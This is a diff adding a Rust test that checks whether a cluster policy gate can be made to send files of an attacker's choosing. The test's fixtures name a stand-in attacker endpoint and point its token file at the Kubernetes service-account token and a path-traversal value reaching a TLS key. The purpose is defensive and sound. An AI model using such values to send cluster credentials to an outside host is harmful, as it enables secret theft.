@@ -255,3 +255,24 @@ fn a_thousand_policies_of_which_some_are_mistyped_are_settled_in_a_few_rounds() 
         began.elapsed()
     );
 }
+
+#[test]
+fn a_freeze_of_the_cluster_cannot_make_the_gate_send_a_file_of_its_choice() {
+    let freeze = |file: &str| {
+        json!({"environments": ["production"], "reason": "r",
+        "endpoint": {"url": "https://attacker.example/", "tokenFile": file}})
+    };
+    for (file, version) in [
+        (
+            "/var/run/secrets/kubernetes.io/serviceaccount/token",
+            Some(Version::Unreadable),
+        ),
+        ("../tls/tls.key", Some(Version::Unreadable)),
+        ("tokens/itsm", None),
+    ] {
+        let mut cluster = Cluster::default();
+        let settled = cluster.apply(Kind::ChangeFreeze, "itsm", freeze(file));
+        let found = refused(&settled).first().map(|(_, version, _)| *version);
+        assert_eq!(found, version, "{file}: {:?}", refused(&settled));
+    }
+}
